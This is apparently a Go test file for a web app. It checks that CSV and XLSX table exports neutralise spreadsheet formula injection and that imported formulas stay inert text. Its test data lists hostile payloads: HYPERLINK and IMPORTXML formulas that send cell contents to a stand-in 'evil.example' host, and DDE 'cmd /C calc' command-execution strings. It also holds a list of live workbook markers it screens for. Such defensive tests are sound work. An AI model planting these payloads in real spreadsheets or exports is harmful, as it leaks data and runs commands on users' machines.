package web

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"milieu/internal/auth"
	"milieu/internal/decision"
	"milieu/internal/evidence"
	"milieu/internal/example"
	"milieu/internal/sheet"
	"milieu/internal/tabular"
)

// formulas are texts that a spreadsheet runs where they come first in a cell.
var formulas = []string{
	`=HYPERLINK("https://evil.example?"&A1,"open")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=1+1`, `+44 114 222 2000`, `'=1+1`, `''=1+1`, "\t=1+1", "\r=1+1", "\n=1+1",
	"\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)", `;=1+1`, `"=1+1`, `=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")`, "-1.5", `DDE("cmd";"/C calc";"x")`,
}

// formulaRows puts a formula into every column of a table that takes any text.
func (w *teamWorld) formulaRows(table evidence.TeamTable) {
	w.t.Helper()
	for i, text := range formulas {
		form := hostileRow(table, text)
		form.Set("f.source_url", "https://example.org/")
		form.Set("id", "zz-"+table.Name+"-"+string(rune('a'+i)))
		form.Set("reason", text)
		form.Set("source", text)
		if strings.Contains(text, "://") {
			form.Set("source", "=1+1")
		}
		if rec := w.do(w.request(auth.Editor, http.MethodPost, tablePath(table.Name)+"/new", form)); rec.Code != http.StatusSeeOther {
			w.t.Fatalf("%s with %q: status %d\n%s", table.Name, text, rec.Code, texts(rec.Body.String(), "main"))
		}
	}
}

// TestAttack_formulas decides formulas into every table, and takes them away in every
// form in which tables can be taken away. None is live; all come back as they went.
func TestAttack_formulas(t *testing.T) {
	w := teamSite(t)
	tables, err := evidence.TeamTables()
	if err != nil {
		t.Fatal(err)
	}
	for _, table := range tables {
		w.formulaRows(table)
		for _, format := range []string{"csv", "xlsx"} {
			rec := w.do(w.request(auth.Analyst, http.MethodGet, tablePath(table.Name)+"/export?format="+format, nil))
			if rec.Code != http.StatusOK || !strings.Contains(rec.Header().Get("Content-Disposition"), `attachment; filename="`+table.Name+"."+format) {
				t.Fatalf("%s as %s: status %d, %v", table.Name, format, rec.Code, rec.Header())
			}
			data := bytes.Clone(rec.Body.Bytes())
			if format == "csv" {
				deadCells(t, table.Name, string(data))
			} else {
				deadWorkbook(t, table.Name, data)
			}
			w.asItWent(table, data)
		}
	}
	w.hostileNames()
	dir := t.TempDir()
	if _, err := example.Write(example.AMID, dir, false); err != nil {
		t.Fatal(err)
	}
	w.serveBuild(dir)
	for _, path := range []string{"/decisions?format=csv", "/audit?format=csv", "/people?format=csv", "/organisations?format=csv", "/network?format=csv", "/network?format=csv&table=ties", "/priorities?format=csv", "/sources?format=csv",
		"/sources/ties?format=csv", "/sources/decisions?format=csv", "/organisations/zz-organisations-a?format=csv", "/organisations/" + hub + "?format=csv", "/priorities/zz-interventions-a?format=csv", "/areas/team/amp?format=csv", "/areas?format=csv", "/areas/team?format=csv",
		"/areas/employment/south-yorkshire?format=csv"} {
		rec := w.do(w.request(auth.Owner, http.MethodGet, path, nil))
		if rec.Code == http.StatusNotFound && strings.HasPrefix(path, "/sources/decisions") {
			continue
		}
		if kind := rec.Header().Get("Content-Type"); rec.Code != http.StatusOK || !strings.HasPrefix(kind, "text/csv") {
			t.Errorf("%s: status %d, %s", path, rec.Code, kind)
			continue
		}
		deadCells(t, path, rec.Body.String())
	}
}

// hostileNames gives people, tokens and browsers such names.
func (w *teamWorld) hostileNames() {
	w.t.Helper()
	for i, text := range formulas[:5] {
		if _, err := w.auth.Add(w.t.Context(), auth.Machine(teamWorkspace), "="+string(rune('a'+i))+"@example.org", text, auth.Reader, ""); err != nil {
			w.t.Fatal(err)
		}
		if _, _, err := w.auth.Invite(w.t.Context(), w.people[auth.Owner], "-"+string(rune('a'+i))+"@example.org", text, auth.Reader); err != nil {
			w.t.Fatal(err)
		}
	}
	w.twice(auth.Owner, formulas[0])
}

// asItWent brings a table back that was taken away: nothing in it says anything new.
func (w *teamWorld) asItWent(table evidence.TeamTable, data []byte) {
	w.t.Helper()
	in, err := sheet.Read(w.t.Context(), data, table.Definition.Columns)
	if err != nil {
		w.t.Fatal(err)
	}
	kept := 0
	for _, row := range in.Rows {
		for i, c := range table.Definition.Columns {
			if c.Kind == "" && slices.Contains(formulas, row.Cells[i]) {
				kept++
			}
		}
	}
	if kept < len(formulas) {
		w.t.Errorf("%s: only %d formulas come back as they went", table.Name, kept)
	}
	rec := w.do(w.letterRequest(auth.Editor, letter{path: tablePath(table.Name) + "/import", name: "again", file: data}))
	body := w.do(w.request(auth.Editor, http.MethodGet, rec.Header().Get("Location"), nil)).Body.String()
	if !strings.Contains(body, "There is nothing to import") || !strings.Contains(body, "that change nothing.") || strings.Contains(body, "cannot be taken") {
		w.t.Errorf("%s: %s\n%.3000s", table.Name, texts(body, "h1"), texts(body, "main"))
	}
}

// deadWorkbook wants a workbook without a formula, and whose texts stay dead when it is
// saved as CSV.
func deadWorkbook(t testing.TB, what string, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		for _, live := range []string{"<f>", "<f ", "<hyperlink", "externalLink", "ddeLink", "vbaProject"} {
			if bytes.Contains(text, []byte(live)) {
				t.Errorf("%s: %s holds %q", what, f.Name, live)
			}
		}
		for _, text := range append(strings.Split(string(text), "<t>"), strings.Split(string(text), `<t xml:space="preserve">`)...)[1:] {
			if text, _, in := strings.Cut(text, "</t>"); in && text != "" && strings.ContainsRune("=+@\t", rune(text[0])) {
				t.Errorf("%s: a cell of %s begins as a formula: %.60q", what, f.Name, text)
			}
		}
	}
}

// TestAttack_formulasBrought imports formulas from a file that has them bare: they are
// kept as texts, and leave as texts.
func TestAttack_formulasBrought(t *testing.T) {
	w := teamSite(t)
	var text bytes.Buffer
	c := csv.NewWriter(&text)
	_ = c.Write([]string{"id", "name", "source_url"}) // a buffer takes everything
	for i, f := range formulas {
		_ = c.Write([]string{"zz-" + string(rune('a'+i)), f, "https://example.org/"})
	}
	c.Flush()
	to := w.do(w.letterRequest(auth.Editor, letter{path: importPath, name: "=1+1.csv", file: text.Bytes()})).Header().Get("Location")
	form := formTo(t, w.page(auth.Editor, to), to)
	form.Set("reason", "=1+1")
	w.sent(w.do(w.request(auth.Editor, http.MethodPost, to, form)), "/decisions?batch="+strings.TrimPrefix(to, "/imports/")+"&said=imported")
	ds, _, err := w.book().List(t.Context(), w.people[auth.Owner], decision.Filter{Limit: 100})
	if err != nil || len(ds) != len(formulas) {
		t.Fatalf("%d decisions, %v", len(ds), err)
	}
	clean := tabular.Column{}
	for i, d := range ds { // the newest first
		want, _ := clean.Clean(sheet.Bare(strings.TrimSpace(formulas[len(formulas)-1-i])))
		if d.Fields["name"] != want {
			t.Errorf("%q was kept as %q, want %q", formulas[len(formulas)-1-i], d.Fields["name"], want)
		}
	}
	deadCells(t, "export", w.page(auth.Analyst, "/tables/organisations/export?format=csv"))
	deadCells(t, "decisions", w.page(auth.Analyst, "/decisions?format=csv"))
}
